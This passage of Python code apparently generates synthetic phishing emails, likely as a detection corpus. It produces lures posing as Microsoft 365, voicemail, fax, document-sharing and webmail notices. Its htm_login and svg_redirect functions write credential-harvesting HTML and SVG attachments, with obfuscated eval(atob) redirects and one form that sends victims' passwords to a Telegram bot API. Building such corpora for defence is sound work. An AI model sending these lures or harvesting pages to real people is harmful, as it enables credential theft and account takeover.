        rt = r_spoof(r, brand_dom, policy)
        return rt, f"{lp}@{brand_dom}"
    if k == 4:
        dom = throwaway(r, stem)
        rt = r_esp(
            r, r.choice(["sendgrid", "mailgun", "ses", "brevo"]), dom, aligned=r.random() < 0.5, policy=""
        )
        lp = local or "notification"
        return rt, f"{lp}@{dom}"
    prov = r.choice(["gmail.com", "outlook.com", "hotmail.com", "yahoo.com", "aol.com", "mail.ru", "gmx.com"])
    em = f"{rs(r, r.randint(6, 10), ALPHA)}{digits(r, r.randint(2, 4))}@{prov}"
    return r_freemail(r, prov, em), em


# ---- Microsoft 365 / Outlook -----------------------------------------------------------------

MS_FOOT = [
    "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052",
    "This message was sent from an unmonitored e-mail address. Please do not reply to this message.",
]


def f_m365(r: random.Random, i: int) -> bytes:
    p = victim(r)
    dt = rdate(r)
    k = i % 9
    url = landing(r, "Microsoft", p.email)
    shown = r.choice(
        [
            f"https://outlook.office365.com/owa/{DOM}",
            "https://login.microsoftonline.com/",
            f"https://portal.office.com/account/?ref={DOM}",
            "https://aka.ms/mfasetup",
        ]
    )
    disp = r.choice(
        [
            "Microsoft 365",
            "Microsoft Outlook",
            "Office365 Support",
            "Microsoft Account Team",
            f"IT Service Desk {DOM}",
            "Mіcrosoft Security",
            "Outlook Web App",
            "M365 Admin",
            "Microsoft Exchange Online",
        ]
    )
    rt, frm = sender_any(
        r,
        r.choice(["microsoft.com", "office365.com", "microsoftonline.com"]),
        stem=r.choice(["office365-mail", "ms-online", "outlook-verify", "m365notice", ""]),
    )
    rcpt, to = recipients(r, p, 0.3, frm)
    mode = None
    if k == 0:
        days = r.randint(0, 3)
        subj = r.choice(
            [
                f"Password Expiration Notice for {p.email}",
                f"Your password expires in {days} day(s)",
                f"Action Required: {p.email} password expires today",
                f"[{DOM}] Password Expiry Reminder - {sdate(dt)}",
            ]
        )
        blocks = [
            ("h", "Password Expiration Notice"),
            f"The password to your Office 365 account {p.email} expires on {ldate(dt + timedelta(days=days))}.",
            r.choice(
                [
                    "You can keep using the current password. Use the button below to keep same password.",
                    "To avoid losing access to your mailbox and Teams, confirm your current password now.",
                    "Failure to update will result in your account being locked and all sessions signed out.",
                ]
            ),
            ("btn", r.choice(["Keep Same Password", "KEEP CURRENT PASSWORD", "Update Now"]), url, shown),
            f"Microsoft respects your privacy. Sent to {p.email}.",
        ]
    elif k == 1:
        used = r.choice(["49.5", "49.8", "99.2", "98.7", "100"])
        subj = r.choice(
            [
                f"Mailbox Storage Full - {used}% used",
                f"{p.email}: your mailbox is almost full",
                "Incoming messages on hold: storage limit reached",
                f"Quota Warning: {r.randint(17, 89)} messages could not be delivered",
            ]
        )
        blocks = [
            ("h", "Your mailbox is almost full"),
            (
                "kv",
                [
                    ("Account", p.email),
                    ("Used", f"{used} GB of 50 GB" if "." in used else f"{used}%"),
                    ("Status", "Incoming mail suspended"),
                ],
            ),
            r.choice(
                [
                    f"{r.randint(9, 46)} incoming messages have been placed on hold because your mailbox storage is full.",
                    "You will no longer be able to send or receive messages until you increase your storage.",
                ]
            ),
            ("btn", r.choice(["Get Free Storage", "Increase Storage", "Release Messages"]), url, shown),
            "This is a free upgrade included in your Microsoft 365 subscription.",
        ]
    elif k == 2:
        city = r.choice(
            [
                "Moscow, Russia",
                "Lagos, Nigeria",
                "Shenzhen, China",
                "São Paulo, Brazil",
                "Kyiv, Ukraine",
                "Jakarta, Indonesia",
            ]
        )
        subj = r.choice(
            [
                "Microsoft account unusual sign-in activity",
                "Unusual sign-in activity detected",
                f"Security alert: new sign-in to {p.email}",
                "We detected something unusual about a recent sign-in",
            ]
        )
        blocks = [
            ("h", "Unusual sign-in activity"),
            f"We detected something unusual about a recent sign-in to the Microsoft account {p.email[:2]}*****@{DOM}.",
            (
                "kv",
                [
                    ("Country/region", city),
                    ("IP address", doc_ip(r)),
                    ("Date", hdate(dt)),
                    ("Platform", r.choice(["Windows 10", "Linux", "Android"])),
                    ("Browser", r.choice(["Firefox", "Chrome", "Opera"])),
                ],
            ),
            "Please go to your recent activity page to let us know whether or not this was you. If this wasn't you, we'll help you secure your account.",
            ("btn", "Review recent activity", url, "https://account.live.com/activity"),
            "To opt out or change where you receive security notifications, click here.",
        ]
    elif k == 3:
        n = r.randint(3, 11)
        subj = r.choice(
            [
                f"You have {n} new held messages",
                f"Quarantine Notification: {n} messages blocked",
                f"Spam quarantine summary for {p.email}",
                "Messages held for your review",
            ]
        )
        items = [
            (
                r.choice(
                    [
                        "Payment Advice",
                        "RE: Survey invoice",
                        "Signed contract",
                        "Remittance",
                        "Purchase Order",
                        "Site plans revised",
                        "Wire confirmation",
                    ]
                )
                + f" #{digits(r, 5)}",
                f"{rs(r, 6, ALPHA)}@{r.choice(COMPROMISED)[1]}",
            )
            for _ in range(r.randint(3, 5))
        ]
        blocks = [
            ("h", "Microsoft 365 security: Messages quarantined"),
            f"{n} messages sent to {p.email} were held because of your organisation's spam policy.",
            ("ul", [f"{s} — from {f}" for s, f in items]),
            ("btn", "Review messages", url, f"https://security.microsoft.com/quarantine?id={rs(r, 8, HEX)}"),
            "Messages in quarantine will be deleted automatically after 3 days.",
        ]
    elif k == 4:
        n = r.randint(3, 9)
        subj = r.choice(
            [
                f"You have ({n}) pending messages",
                f"{p.first}, {n} pending incoming emails",
                f"Undelivered Messages: ({n}) emails failed to sync",
                f"[Action Required] {n} pending mails on server",
            ]
        )
        blocks = [
            f"Dear {p.email.split('@')[0]},",
            f"You have {n} pending incoming emails that were not delivered to your inbox due to a sync error on the {DOM} mail server.",
            "Recover your emails below.",
            ("btn", "Deliver Pending Messages", url, f"https://mail.{DOM}/deliver"),
            f"Note: this is an automated message from {DOM} Mail server.",
        ]
        disp = r.choice([f"{DOM} Mail Server", f"Mail Delivery System {DOM}", "Email Administrator"])
    elif k == 5:
        subj = r.choice(
            [
                "Action required: re-enrol multi-factor authentication",
                "MFA Re-Registration Required",
                "Your Microsoft Authenticator setup will expire",
                "Security Defaults update: register your authentication methods",
            ]
        )
        blocks = [
            ("h", "Multi-factor authentication update"),
            r.choice(
                [
                    f"Your organisation {ORG} has updated its security policy. All users must re-register their MFA methods by {ldate(dt + timedelta(days=2))}.",
                    "As part of the migration to Microsoft Entra ID, your existing authentication methods will stop working. Re-register now to avoid being locked out.",
                ]
            ),
            ("btn", "Re-register MFA", url, "https://aka.ms/mfasetup"),
            "This should take less than 2 minutes.",
        ]
    elif k == 6:
        subj = r.choice(
            [
                "New Teams message from your colleague",
                f"{r.choice(FIRST)} sent you a message in Microsoft Teams",
                "You have 3 missed chats in Teams",
            ]
        )
        who = f"{r.choice(FIRST)} {r.choice(LAST)}"
        blocks = [
            ("h", f"{who} sent you a message"),
            f'"{r.choice(["Hi, can you look at the attached before the 3pm call?", "Please review the revised fee proposal and confirm.", "Urgent - need your sign-off on this today"])}"',
            ("btn", "Reply in Teams", url, "https://teams.microsoft.com/l/message/"),
            "Install Microsoft Teams now: iOS | Android",
        ]
    elif k == 7:
        lang = r.choice(["de", "fr", "es"])
        if lang == "de":
            subj, blocks = (
                f"Ihr Postfach {p.email} wird deaktiviert",
                [
                    ("h", "Kontobestätigung erforderlich"),
                    f"Sehr geehrter Benutzer, Ihr Microsoft 365-Konto {p.email} wurde für die Deaktivierung markiert, da es nicht bestätigt wurde.",
                    "Bitte bestätigen Sie Ihr Konto innerhalb von 24 Stunden, um den Verlust Ihrer E-Mails zu vermeiden.",
                    ("btn", "Jetzt bestätigen", url, shown),
                    "Mit freundlichen Grüßen, Ihr Microsoft-Team",
                ],
            )
        elif lang == "fr":
            subj, blocks = (
                "Votre mot de passe expire aujourd'hui",
                [
                    ("h", "Expiration du mot de passe"),
                    f"Le mot de passe de votre compte {p.email} expire aujourd'hui. Vous pouvez conserver le même mot de passe en cliquant ci-dessous.",
                    ("btn", "Conserver le mot de passe", url, shown),
                    "Équipe Microsoft Office 365",
                ],
            )
        else:
            subj, blocks = (
                "Aviso: su buzón de correo está lleno",
                [
                    ("h", "Buzón casi lleno"),
                    f"Su buzón {p.email} ha superado el límite de almacenamiento. Los mensajes nuevos serán rechazados.",
                    ("btn", "Aumentar almacenamiento", url, shown),
                    "Equipo de Microsoft 365",
                ],
            )
        return lure(
            r,
            i,
            rt,
            rcpt,
            to,
            dt,
            addr(disp, frm, "utf-8"),
            subj,
            blocks,
            "Microsoft 365",
            "#0078d4",
            MS_FOOT,
            lang=lang,
            cs=r.choice(["utf-8", "iso-8859-1"]),
        )
    else:
        subj = r.choice(
            [
                "Your Microsoft 365 subscription payment failed",
                "Microsoft 365 Business: billing information needs update",
                "Suspension notice: Microsoft 365 licence",
            ]
        )
        blocks = [
            ("h", "We couldn't process your payment"),
            f"The payment for {ORG}'s Microsoft 365 Business Standard subscription ({r.randint(8, 14)} licences) was declined.",
            "Your services will be suspended in 48 hours unless payment details are updated.",
            ("btn", "Update billing info", url, "https://admin.microsoft.com/billing"),
            f"Subscription ID: {rs(r, 8, HEX)}-{rs(r, 4, HEX)}-{rs(r, 4, HEX)}",
        ]
    extra: list[Header] = []
    if r.random() < 0.25:
        extra.append(
            ("Reply-To", f"{rs(r, 8, ALPHA)}@{r.choice(['gmail.com', 'outlook.com', throwaway(r)])}")
        )
    if r.random() < 0.3:
        extra.append(("X-Priority", "1 (Highest)"))
    return lure(
        r,
        i,
        rt,
        rcpt,
        to,
        dt,
        addr(disp, frm),
        subj,
        blocks,
        "Microsoft",
        "#0078d4",
        MS_FOOT,
        extra,
        mode=mode,
    )


# ---- voicemail / fax / missed call -----------------------------------------------------------


def htm_login(r: random.Random, brand: str, email: str, post: str, style: int) -> str:
    """An HTML credential-harvesting or redirecting attachment as the kits write them."""
    if style == 0:
        return f"""<html><head><title>{brand}</title><meta name="robots" content="noindex"></head><body style="background:#f2f2f2;font-family:Segoe UI">
<div style="width:360px;margin:80px auto;background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)">
<img src="data:image/png;base64,{base64.b64encode(r.randbytes(48)).decode()}" height="24"><h3>Sign in to listen</h3>
<form method="POST" action="{post}"><input type="email" name="login" value="{email}" readonly style="width:100%;margin:6px 0">
<input type="password" name="passwd" placeholder="Password" required style="width:100%;margin:6px 0">
<input type="hidden" name="ref" value="{rs(r, 12, ALNUM)}"><button type="submit" style="background:#0067b8;color:#fff;border:0;padding:8px 30px">Sign in</button></form>
<p style="font-size:11px;color:#666">Because you're accessing sensitive info, you need to verify your password.</p></div></body></html>"""
    if style == 1:
        target = f"{post}#{b64(email)}"
        enc = base64.b64encode(f'window.location.href="{target}";'.encode()).decode()
        return f"<html><head><script>eval(atob('{enc}'))</script></head><body>Loading, please wait...</body></html>"
    if style == 2:
        payload = f'<meta http-equiv="refresh" content="0;url={post}?e={email}">'
        esc_payload = "".join(f"%{ord(c):02X}" for c in payload)
        return f"<script language=\"javascript\">document.write(unescape('{esc_payload}'));</script>"
    if style == 3:
        tok, chat = f"{digits(r, 10)}:AA{rs(r, 33, URLSAFE)}", f"-{digits(r, 10)}"
        return f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>{brand} - Secure Message</title></head><body>
<div id="app"><h2>{brand}</h2><p>Enter password for <b>{email}</b> to continue</p><input id="p" type="password"><button onclick="go()">Next</button><div id="e" style="color:red"></div></div>
<script>var c=0;function go(){{var p=document.getElementById('p').value;fetch('https://api.telegram.org/bot{tok}/sendMessage?chat_id={chat}&text='+encodeURIComponent('{email} | '+p+' | '+navigator.userAgent));c++;if(c<2){{document.getElementById('e').innerText='Your account or password is incorrect.'}}else{{location.href='https://outlook.office.com/'}}}}</script></body></html>"""
    # SVG-like HTML with split strings
    parts = [post[j : j + 7] for j in range(0, len(post), 7)]
    js = "+".join(f"'{x}'" for x in parts)
    return f'<html><body><script>var a=[{js}].join("");var m="{email}";setTimeout(function(){{window.location.replace(a+"#"+btoa(m))}},{r.randint(100, 900)});</script><noscript>Enable JavaScript to play message</noscript></body></html>'


def svg_redirect(r: random.Random, target: str, email: str) -> str:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="400" height="120"><rect width="400" height="120" fill="#f4f4f4"/><text x="20" y="60" font-family="Arial" font-size="16">Loading secure audio message...</text>
<script type="text/javascript"><![CDATA[
var u = atob("{b64(target)}"); var e = "{email}";
window.location.href = u + "?m=" + btoa(e);
]]></script></svg>
"""


def f_voicemail(r: random.Random, i: int) -> bytes:
    p = victim(r)
    dt = rdate(r)
    k = i % 5
    post = r.choice(
        [
            kit_url(r, throwaway(r)),
            kit_url(r, r.choice(COMPROMISED)[1]),
            hosted(r),
            f"https://{rs(r, 8, LOWER)}.{r.choice(['workers.dev', 'pages.dev', 'web.app'])}/next.php",
        ]
    )
    caller = f"+44 {r.choice(['1632', '20 7946', '113 496', '161 496'])} {digits(r, 4)}"
    dur = f"00:{r.randint(0, 2):02d}:{r.randint(5, 59):02d}"
    rt, frm = sender_any(
        r,
        r.choice(["ringcentral.com", "8x8.com", "microsoft.com", DOM]),
        local=r.choice(["voicemail", "voice", "fax", "noreply", "vm-service"]),
        stem=r.choice(["voicemsg", "vmail-audio", "ringbox", ""]),
    )
    if r.random() < 0.35:
        rt = r_spoof(r, DOM, "quarantine")
        frm = f"voicemail@{DOM}"
    rcpt, to = recipients(r, p, 0.25, frm)
    ts = f"{dt:%Y%m%d%H%M}"
    if k == 0:
        name = r.choice(
            [
                f"VM_{ts}_{digits(r, 4)}.htm",
                f"Play_Audio_{caller[-4:]}.html",
                f"voice-message-{ts}.shtml",
                f"▶️ Audio_{dur.replace(':', '')}.htm",
                f"VoiceMail_{p.first}.html",
            ]
        )
        att = attach(name, HTM, htm_login(r, "Microsoft", p.email, post, r.randrange(5)).encode())
        subj = r.choice(
            [
                f"New Voicemail from {caller} ({dur})",
                f"▶ You have a new voice message - {dur}",
                f"Voicemail received for {p.first} {p.last}",
                f"Missed call: {caller} left a message",
            ]
        )
        blocks = [
            ("h", "You have a new voice message"),
            ("kv", [("From", caller), ("To", p.email), ("Received", hdate(dt)), ("Length", dur)]),
            "Please find the attached audio file to listen to the message.",
        ]
        brand = r.choice(["Microsoft Voice", "Voice Messaging Service", "RingCentral", "Teams Voicemail"])
    elif k == 1:
        pages = r.randint(2, 9)
        name = r.choice(
            [f"Fax_{digits(r, 8)}.htm", f"eFax_Document_{pages}pages.html", f"INCOMING_FAX_{ts}.htm"]
        )
        att = attach(
            name,
            HTM if r.random() < 0.7 else OCTET,
            htm_login(r, "eFax", p.email, post, r.randrange(5)).encode(),
        )
        subj = r.choice(
            [
                f'eFax message from "{caller}" - {pages} page(s)',
                f"Incoming Fax Document #{digits(r, 6)}",
                f"New fax received ({pages} pages)",
            ]
        )
        blocks = [
            ("h", "You have received a new fax"),
            (
                "kv",
                [
                    ("Pages", str(pages)),
                    ("Sender ID", caller),
                    ("Received", hdate(dt)),
                    ("Reference", f"FX-{digits(r, 7)}"),
                ],
            ),
            "Open the attachment to view the fax document. You may need to sign in to verify your identity.",
        ]
        brand = r.choice(["eFax", "Fax Delivery Service", "j2 eFax"])
    elif k == 2:
        name = f"audio_{rs(r, 6, LOWER)}.svg"
        att = attach(name, "image/svg+xml", svg_redirect(r, post, p.email).encode())
        subj = r.choice(
            [
                f"VM Received: {caller} Duration {dur}",
                f"Voice Note for {p.email}",
                "Caller left you a voice message",
            ]
        )
        blocks = [
            ("h", "Voicemail notification"),
            f"Caller {caller} left you a {dur} voice message.",
            "Listen to the attached audio preview.",
        ]
        brand = "Voicemail"
    elif k == 3:
        url = landing(r, "Voicemail", p.email)
        subj = r.choice(
            [
                f"Missed call from {caller}",
                f"{r.randint(2, 4)} missed calls - voicemail waiting",
                f"You missed a Teams call from {r.choice(FIRST)} {r.choice(LAST)}",
            ]
        )
        blocks = [
            ("h", "Missed call"),
            ("kv", [("Caller", caller), ("Time", f"{dt:%H:%M}"), ("Message length", dur)]),
            ("btn", "▶ Play Voicemail", url, "https://teams.microsoft.com/voicemail"),
            "This voicemail will be deleted after 48 hours.",
        ]
        brand, att = "Microsoft Teams", None
    else:
        name = f"{rs(r, 4, UHEX)}-VM-{digits(r, 5)}.wav.html"
        att = attach(name, HTM, htm_login(r, "Outlook", p.email, post, 1 + r.randrange(4)).encode())
        subj = f"{DOM} Voicemail - {sdate(dt)} {dt:%H:%M}"
        blocks = [
            ("h", f"{DOM} Voice Mail System"),
            f"Dear {p.first},",
            f"You received a new voice mail on {ldate(dt)}. Open the attached file to listen.",
            ("kv", [("Duration", dur), ("Priority", "High")]),
        ]
        brand = f"{DOM} PBX"
    return lure(
        r,
        i,
        rt,
        rcpt,
        to,
        dt,
        addr(
            r.choice(
                [brand, f"Voicemail ({caller})", "Voice Mail Service", "Notification", f"{DOM} Voicemail"]
            ),
            frm,
        ),
        subj,
        blocks,
        brand,
        r.choice(["#0078d4", "#444791", "#e8590c", "#1a1a1a"]),
        [f"Sent to {p.email}"],
        attachments=[att] if att else [],
    )


# ---- document-share lures --------------------------------------------------------------------

DOC_NAMES = [
    "Fee Proposal - Topographic Survey",
    "Revised Contract Agreement",
    "Q{q} Remittance Advice",
    "Payment Schedule {y}",
    "Signed NDA",
    "Boundary Plan Rev C",
    "Tender Documents - Phase 2",
    "Outstanding Invoices Statement",
    "Employee Bonus Allocation {y}",
    "Project Closeout Pack",
    "Purchase Order #{n}",
    "Settlement Statement",
    "Measured Building Survey RFQ",
]


def docname(r: random.Random, dt: datetime) -> str:
    return r.choice(DOC_NAMES).format(q=(dt.month - 1) // 3 + 1, y=dt.year, n=digits(r, 6))


def f_docshare(r: random.Random, i: int) -> bytes:
    p = victim(r)
    dt = rdate(r)
    k = i % 9
    doc = docname(r, dt)
    url = hosted(r, "", p.email) if r.random() < 0.6 else landing(r, "Docs", p.email)
    sname = f"{r.choice(FIRST)} {r.choice(LAST)}"
    attachments: list[Ent] = []
    extra: list[Header] = []
    if k == 0:
        brand, color = "DocuSign", "#1e4ca1"
        rt, frm = sender_any(
            r,
            "docusign.net",
            local=r.choice(["dse", "docusign", "esign"]),
            stem=r.choice(["docu-sign", "docusign-envelope", "esign-docs"]),
        )
        subj = r.choice(
            [
                f"Complete with DocuSign: {doc}.pdf",
                f"{sname} sent you a document to review and sign",
                f"Please DocuSign: {doc}",
                f"Reminder: {doc} awaiting your signature",
            ]
        )
        blocks = [
            ("h", f"{sname} sent you a document to review and sign."),
            ("btn", "REVIEW DOCUMENT", url, "https://www.docusign.net/Signing/"),
            f"{sname}\n{r.choice(['accounts', 'finance', 'contracts'])}@{r.choice(COMPROMISED)[1]}",
            f"Please review and sign {doc}.",
            "Do Not Share This Email: This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.",
            f"Alternate Signing Method: Visit DocuSign.com, click 'Access Documents', and enter the security code: {rs(r, 32, UHEX)}",
        ]
        disp = r.choice(
            [f"{sname} via DocuSign", "DocuSign Electronic Signature", "Docusign", "DocuSign Service"]
        )
    elif k == 1:
        brand, color = "Adobe Acrobat", "#eb1000"
        rt, frm = sender_any(
            r, "adobe.com", local="acrobat", stem=r.choice(["adobe-doc", "acrobat-share", ""])
        )
        subj = r.choice(
            [
                f'{sname} has shared "{doc}" with you',
                f"Adobe Document Cloud: {doc}.pdf",
                "You have received a secure PDF file",
            ]
        )
        blocks = [
            ("h", "Shared document"),
            f"{sname} has shared a document with you via Adobe Document Cloud.",
            (
                "kv",
                [
                    ("File", f"{doc}.pdf"),
                    ("Size", f"{r.randint(180, 2900)} KB"),
                    ("Expires", ldate(dt + timedelta(days=r.randint(2, 7)))),
                ],
            ),
            ("btn", "View PDF", url, "https://acrobat.adobe.com/link/review"),
            "To open this document you will need to sign in with your email account.",
        ]
        disp = r.choice(["Adobe Acrobat", f"{sname} via Adobe", "Adobe Document Cloud"])
    elif k in (2, 3):
        brand, color = "SharePoint", "#036c70"
        org = r.choice(COMPROMISED)
        local = r.choice(["accounts", "office", sname.split()[0].lower()])
        rt = r_compromised(r, org, local)
        frm = f"{local}@{org[1]}"
        subj = r.choice(
            [
                f'{sname} shared "{doc}" with you',
                f"{org[0]} has shared a file with you",
                f'{sname} shared the folder "{org[0]} - Documents" with you',
                f"Document Shared: {doc}.pdf",
            ]
        )
        blocks = [
            ("h", f"{sname} shared a file with you"),
            f'"{r.choice(["Here is the document we discussed.", "Please review and revert.", "Kindly see attached invoice and advise on payment.", "Sharing as requested."])}"',
            ("raw", f'<p style="font-size:14px;">&#128196; <b>{esc(doc)}.pdf</b></p>'),
            (
                "btn",
                "Open",
                url,
                f"https://{org[1].split('.')[0]}-my.sharepoint.com/:b:/g/personal/{local}/E{rs(r, 40, URLSAFE)}",
            ),
            "This link will work for anyone.",
            "Microsoft respects your privacy. To learn more, please read our Privacy Statement. Microsoft Corporation, One Microsoft Way, Redmond, WA 98052",
        ]
        disp = r.choice([f"{sname} via SharePoint Online", f"{org[0]} (via OneDrive)", sname])
    elif k == 4:
        brand, color = "Dropbox", "#0061fe"
        rt, frm = sender_any(
            r, "dropbox.com", local="no-reply", stem=r.choice(["dropbox-share", "dbx-files", ""])
        )
        subj = r.choice(
            [
                f'{sname} shared "{doc}" with you',
                f'{sname} invited you to view the folder "{docname(r, dt)}" on Dropbox',
                "You have a new file on Dropbox",
            ]
        )
        blocks = [
            ("h", f"{sname} shared a file with you"),
            ("kv", [("File", f"{doc}.pdf"), ("Shared by", sname)]),
            ("btn", "View file", url, "https://www.dropbox.com/scl/fi/"),
            "Enjoy!\nThe Dropbox team",
        ]
        disp = r.choice(["Dropbox", f"{sname} (via Dropbox)", "DropBox Business"])
    elif k == 5:
        brand, color = "WeTransfer", "#409fff"
        rt, frm = sender_any(
            r, "wetransfer.com", local="noreply", stem=r.choice(["wetransfer-files", "we-transfer", ""])
        )
        n = r.randint(2, 8)
        subj = r.choice(
            [
                f"{sname} sent you {n} files via WeTransfer",
                f"You received files from {sname}",
                f"{n} items sent to you - expires in 3 days",
            ]
        )
        blocks = [
            ("h", f"{sname} sent you some files"),
            ("ul", [f"{docname(r, dt)}.pdf" for _ in range(min(n, 4))]),
            (
                "kv",
                [
                    ("Total size", f"{r.randint(2, 60)}.{r.randint(1, 9)} MB"),
                    ("Expires", ldate(dt + timedelta(days=3))),
                ],
            ),
            ("btn", "Download your files", url, f"https://we.tl/t-{rs(r, 10, ALNUM)}"),
            f"Files sent to {p.email}",
        ]
        disp = r.choice(["WeTransfer", f"{sname} via WeTransfer"])
    elif k == 6:
        brand, color = "OneDrive", "#0364b8"
        rt, frm = sender_any(
            r, "onedrive.com", local="no-reply", stem=r.choice(["onedrive-docs", "1drive-share", ""])
        )
        subj = f"{sname} has sent you a secure PDF via OneDrive"
        name = f"{doc.replace(' ', '_')}.pdf.html" if r.random() < 0.5 else f"{doc.replace(' ', '_')}.html"
        attachments.append(
            attach(
                name,
                HTM,
                htm_login(r, "OneDrive", p.email, landing(r, "OneDrive", ""), r.randrange(5)).encode(),
            )
        )
        blocks = [
            ("h", "OneDrive Secure Share"),
            f"{sname} has shared a confidential PDF document with you.",
            "The document is attached. Open it in your browser and sign in with your email to view.",
            ("kv", [("Document", f"{doc}.pdf"), ("Recipient", p.email)]),
        ]
        disp = r.choice(["OneDrive", "OneDrive for Business", f"{sname} (OneDrive)"])
    elif k == 7:
        lang = r.choice(["pt", "it"])
        brand, color = "SharePoint", "#036c70"
        org = r.choice([c for c in COMPROMISED if c[1].endswith((".br", ".it"))])
        rt = r_compromised(r, org, "financeiro" if lang == "pt" else "amministrazione")
        frm = rt.envelope
        if lang == "pt":
            subj = f'{sname} compartilhou "Comprovante de pagamento {digits(r, 5)}" com você'
            blocks = [
                ("h", f"{sname} compartilhou um arquivo com você"),
                "Segue o comprovante de transferência referente à fatura em aberto. Favor confirmar o recebimento.",
                ("btn", "Abrir documento", url, "https://onedrive.live.com/"),
                "Este link expira em 7 dias.",
            ]
        else:
            subj = f'{sname} ha condiviso "Fattura n. {digits(r, 4)}/{dt.year}" con te'
            blocks = [
                ("h", f"{sname} ha condiviso un file con te"),
                "In allegato la fattura relativa all'ordine. Si prega di verificare e procedere con il pagamento.",
                ("btn", "Apri il documento", url, "https://onedrive.live.com/"),
                "Il collegamento scade tra 7 giorni.",
            ]
        return lure(
            r,
            i,
            rt,
            *recipients(r, p, 0.3, frm),
            dt,
            addr(f"{sname} via OneDrive", frm),
            subj,
            blocks,
            brand,
            color,
            [],
            lang=lang,
            cs=r.choice(["utf-8", "iso-8859-1", "windows-1252"]),
        )
    else:
        brand, color = r.choice(
            [
                ("Box", "#0061d5"),
                ("ShareFile", "#2834ff"),
                ("Egnyte", "#00a08e"),
                ("Citrix ShareFile", "#2834ff"),
            ]
        )
        rt, frm = sender_any(r, f"{brand.split()[-1].lower()}.com", local="notifications")
        subj = f"{sname} has requested your signature via {brand}"
        blocks = [
            ("h", f"{brand} secure file"),
            f"{sname} from {r.choice(COMPROMISED)[0]} has sent you a secure document: {doc}.",
            ("btn", "Access Document", url, f"https://{brand.split()[-1].lower()}.com/s/{rs(r, 12, LOWER)}"),
            "This is an automated message from a no-reply address.",
        ]
        disp = f"{sname} via {brand}"
    rcpt, to = recipients(r, p, 0.3, frm)
    if r.random() < 0.2:
        extra.append(
            (
                "Reply-To",
                f"{sname.split()[0].lower()}.{rs(r, 4, LOWER)}@{r.choice(['gmail.com', 'outlook.com', 'hotmail.com'])}",
            )
        )
    return lure(
        r,
        i,
        rt,
        rcpt,
        to,
        dt,
        addr(disp, frm),
        subj,
        blocks,
        brand,
        color,
        [f"This message was sent to {p.email}"],
        extra,
        attachments,
    )


# ---- webmail deactivation in the recipient's own domain ----------------------------------------


def f_webmail(r: random.Random, i: int) -> bytes:
    p = victim(r)
    dt = rdate(r)
    k = i % 6
    url = landing(r, DOMBASE, p.email)
    if r.random() < 0.4:
        url = kit_url(
            r,
            f"{DOMBASE}.{r.choice(['webmail', 'mail', 'secure'])}-{rs(r, 4, LOWER)}.{r.choice(THROWAWAY_TLDS)}",
            p.email,
        )
    disp = r.choice(
        [
            f"{DOM} IT Admin",
            f"{DOM} Mail Administrator",
            f"{DOM.upper()} Support",
            f"Webmail {DOM}",
            f"{ORG} IT Department",
            f"{DOM} Postmaster",
            f"Admin - {DOM}",
        ]
    )
    k2 = r.randrange(3)
    if k2 == 0:
        rt = r_spoof(r, DOM, r.choice(["quarantine", "reject"]))
        frm = f"{r.choice(['admin', 'postmaster', 'it-support', 'webmaster', 'no-reply'])}@{DOM}"
    elif k2 == 1:
        org = r.choice(COMPROMISED)
        rt = r_compromised(r, org, r.choice(["info", "admin", "office"]))
        frm = rt.envelope
    else:
        dom = throwaway(r)
        rt = r_throwaway(r, dom)
        frm = rt.envelope
    rcpt, to = recipients(r, p, 0.25, frm)
    if k == 0:
        subj = r.choice(
            [
                f"{DOM} account deactivation request",
                f"Deactivation of {p.email} in progress",
                "Final Notice: Email Account Closure",
            ]
        )
        blocks = [
            f"Hello {p.email.split('@')[0]},",
            f"We received a request to deactivate your email account {p.email}. This request will be processed within 24 hours.",
            "If this request was not made by you, cancel it immediately using the link below:",
            ("btn", "Cancel Deactivation", url, f"https://webmail.{DOM}/cancel"),
            f"Regards,\n{DOM} IT Admin",
        ]
    elif k == 1:
        subj = r.choice(
            [
                f"{DOM} Email Upgrade Required",
                f"{p.email} - Server Migration Notice",
                "Mailbox version outdated",
            ]
        )
        blocks = [
            f"Dear {DOM} user,",
            f"We are upgrading all {DOM} mailboxes to the new 2025 webmail server. Accounts that are not upgraded by {ldate(dt + timedelta(days=1))} will be disconnected.",
            ("btn", "Upgrade my mailbox", url, f"https://mail.{DOM}/upgrade"),
            "Thank you for your co-operation.",
        ]
    elif k == 2:
        subj = r.choice(
            [
                f"Password Reset Notice - {DOM}",
                f"[{DOM}] Your password was changed",
                f"Email Password Verification for {p.email}",
            ]
        )
        blocks = [
            ("h", f"{DOM} Password Notice"),
            f"The password for {p.email} was recently changed. If you did not make this change, verify your account now to restore access.",
            ("btn", "Verify Account", url, f"https://{DOM}/webmail"),
            f"© {dt.year} {DOM}. All rights reserved.",
        ]
    elif k == 3:
        subj = r.choice(
            [
                f"Mail Delivery Failure: {r.randint(4, 12)} messages returned",
                "Undelivered mail returned to sender",
                f"{DOM}: messages failed to send",
            ]
        )
        blocks = [
            ("h", "Message Delivery Failure"),
            f"Some of your outgoing messages from {p.email} could not be delivered because your account has not been verified on our new server.",
            ("kv", [("Failed messages", str(r.randint(4, 12))), ("Error", "550 5.7.1 Sender not verified")]),
            ("btn", "Resend messages", url, f"https://mail.{DOM}/resend"),
            "Mail Delivery Subsystem",
        ]
    elif k == 4:
        lang = r.choice(["nl", "es"])
        if lang == "nl":
            subj = f"Uw e-mailaccount {p.email} wordt gedeactiveerd"
            blocks = [
                f"Beste {p.first},",
                f"Uw mailbox op {DOM} heeft de opslaglimiet bereikt en wordt binnen 24 uur gedeactiveerd.",
                "Klik hieronder om uw account te verifiëren en uw berichten te behouden.",
                ("btn", "Account verifiëren", url, f"https://webmail.{DOM}"),
                f"Met vriendelijke groet,\n{DOM} Beheerder",
            ]
        else:
            subj = f"Su cuenta {p.email} será suspendida"
            blocks = [
                f"Estimado usuario de {DOM},",
                "Hemos detectado actividad inusual en su cuenta de correo. Para evitar la suspensión, verifique su cuenta en las próximas 24 horas.",
                ("btn", "Verificar cuenta", url, f"https://webmail.{DOM}"),
                f"Atentamente,\nAdministrador de {DOM}",
            ]
        return lure(
            r,
            i,
            rt,
            rcpt,
            to,
            dt,
            addr(disp, frm),
            subj,
            blocks,
            DOM,
            "#2b579a",
            [],
            lang=lang,
            cs=r.choice(["utf-8", "iso-8859-1"]),
        )
    else:
        subj = r.choice(
            [
                f"Important Notice From {DOM} Helpdesk",
